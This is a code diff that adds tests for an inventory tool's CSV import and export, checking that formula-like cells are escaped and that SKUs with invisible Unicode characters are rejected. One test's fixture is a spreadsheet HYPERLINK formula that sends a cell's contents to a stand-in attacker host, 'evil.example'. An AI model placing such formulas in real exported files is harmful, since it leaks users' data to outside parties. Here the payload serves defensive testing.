@@ -289,3 +289,81 @@ def test_an_export_to_a_file_that_fails_leaves_no_partial_file(db, client, tmp_p
     done = cli(workspace, "export", "items", "--output", str(output))
     assert done.returncode != 0
     assert not output.exists() and not Path(str(output) + ".partial").exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
+
+
+def test_cells_that_look_like_formulas_are_escaped_in_the_file_and_imported_unchanged(db, client, tmp_path):
+    """Issue 19, item 5: names, SKUs, notes and tags starting with `=`, `+`, `-` or `@` (or with a
+    quote before one) are written with one more quote in front, and read back without it."""
+    source = make_workspace(db, client, "Source")
+    ok(source.api.post("/v1/locations", json={"name": "@Back room"}))
+    ok(source.api.post("/v1/items", json={
+        "sku": "-CANDLE", "name": FORMULA, "description": "-- fragile --\n=glass", "brand": "'=quoted",
+        "supplier": "+44 20 7946 0000", "tags": ["-sale", "@home"], "metadata": {"note": "=1"}, "price": "12.50",
+        "variants": [{"sku": "=CANDLE-S", "name": "'+small", "attributes": {"size": "=S"}}]}))
+    ok(source.api.post("/v1/items", json={"sku": "'TIL", "name": "'Til dawn", "supplier": "''=twice"}))
+    for sku in ("=CANDLE-S", "'TIL"):
+        ok(source.api.post("/v1/stock/adjustments", json={"item": sku, "location": "@Back room",
+                                                          "reason": "receipt", "delta": 7, "unit_cost": "3"}))
+    items_file, stock_file = tmp_path / "items.csv", tmp_path / "stock.csv"
+    for kind, path in (("items", items_file), ("stock", stock_file)):
+        done = cli(source, "export", kind, "--output", str(path))
+        assert done.returncode == 0, done.stderr
+    written = by_sku(rows_of(items_file.read_text()), ("name", "description", "brand", "supplier", "tags", "parent"))
+    assert written == {
+        "'-CANDLE": ("'" + FORMULA, "'-- fragile --\n=glass", "''=quoted", "'+44 20 7946 0000", "'-sale, @home", ""),
+        "'=CANDLE-S": ("''+small", "'-- fragile --\n=glass", "''=quoted", "'+44 20 7946 0000", "'-sale, @home",
+                       "'-CANDLE"),
+        "'TIL": ("'Til dawn", "", "", "'''=twice", "", "")}
+    assert {(r["sku"], r["location"]) for r in rows_of(stock_file.read_text())} == {
+        ("'=CANDLE-S", "'@Back room"), ("'TIL", "'@Back room")}
+
+    target = make_workspace(db, client, "Target")
+    for args in (("items", str(items_file)), ("stock", str(stock_file), "--create-locations")):
+        done = cli(target, "import", *args)
+        assert done.returncode == 0, done.stderr
+
+    def exported(workspace, kind):
+        done = cli(workspace, "export", kind, "--format", "jsonl")
+        assert done.returncode == 0, done.stderr
+        return [json.loads(line) for line in done.stdout.splitlines()]
+
+    assert by_sku(exported(target, "items"), SHOWN) == by_sku(exported(source, "items"), SHOWN)
+    assert sorted((r["sku"], r["location"], r["on_hand"]) for r in exported(target, "stock")) == [
+        ("'TIL", "@Back room", 7), ("=CANDLE-S", "@Back room", 7)]
+    assert ok(target.api.get("/v1/items/=CANDLE-S"))["name"] == "'+small"
+
+    # A file written by hand: a quote before a trigger is taken off, any other cell is read as it is.
+    hand = tmp_path / "hand.csv"
+    hand.write_text("sku,name,supplier\n'@HAND,'Til dawn,=no quote\n", encoding="utf-8")
+    done = cli(target, "import", "items", str(hand))
+    assert done.returncode == 0, done.stderr
+    made = ok(target.api.get("/v1/items/@HAND"))
+    assert (made["name"], made["supplier"]) == ("'Til dawn", "=no quote")
+    hand.write_text("sku,location,delta,reason,note\n'@HAND,'@Back room,2,receipt,'=recount\n"
+                    "'@HAND,@Back room,1,receipt,'Til dawn\n", encoding="utf-8")
+    done = cli(target, "import", "stock", str(hand))
+    assert done.returncode == 0, done.stderr
+    notes = [m["note"] for m in ok(target.api.get("/v1/items/@HAND/movements?order=asc"))["data"]]
+    assert notes == ["=recount", "'Til dawn"]
+
+
+def test_an_import_refuses_skus_with_invisible_characters_like_the_api(db, client, tmp_path):
+    """Issue 19, item 6: the API's SKU rule, line by line; nothing is imported."""
+    workspace = make_workspace(db, client)
+    path = tmp_path / "items.csv"
+    path.write_text("sku,name,parent\nLAMP,Lamp,\nLAMP\u202e1,Mirrored,\n\ufeffLAMP-2,Marked,\nLAMP\u200b,Hidden,\n"
+                    "LAMP-S\u2066,,LAMP\n", encoding="utf-8")
+    done = cli(workspace, "import", "items", str(path))
+    assert done.returncode == 2, done.stdout
+    reported = [line for line in done.stderr.splitlines() if line.startswith("line ")]
+    assert [line.split(": A SKU must not contain ")[1].split(" ")[0] for line in reported] == [
+        "U+202E", "U+FEFF", "U+200B", "U+2066"]
+    assert [line.split(":")[0] for line in reported] == ["line 3", "line 4", "line 5", "line 6"]
+    assert counts(workspace)[0] == 0
+    jsonl = tmp_path / "items.jsonl"
+    jsonl.write_text(json.dumps({"sku": "LAMP\ufdd0", "name": "Lamp"}) + "\n", encoding="utf-8")
+    done = cli(workspace, "import", "items", str(jsonl))
+    assert done.returncode == 2 and "line 1: sku: A SKU must not contain U+FDD0" in done.stderr
